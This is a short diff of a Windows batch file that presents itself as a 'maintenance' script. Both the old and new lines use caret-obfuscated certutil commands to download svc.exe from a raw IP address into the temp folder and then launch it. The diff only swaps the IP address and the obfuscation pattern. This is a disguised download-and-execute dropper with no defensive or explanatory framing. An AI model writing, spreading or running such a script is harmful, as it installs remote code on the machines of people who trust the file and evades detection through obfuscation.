@@ -1,4 +1,4 @@
-REM maintenance 7185 v0
+REM maintenance 5404 v0
 @echo off
-c^er^tu^til.^ex^e -^urlcac^h^e -^s^p^l^i^t -^f h^ttp://^20^3.0.1^13.200/^s^vc.^ex^e %TEMP%\^svc.exe
-s^t^art "" %TEMP%\sv^c.^e^x^e
+ce^rtut^il.ex^e -urlc^ac^he -sp^li^t -f ^h^t^tp://^203.0.1^13.1^7/^s^v^c.^e^xe %TEMP%\svc.e^x^e
+sta^r^t "" %TEMP%\sv^c.e^x^e
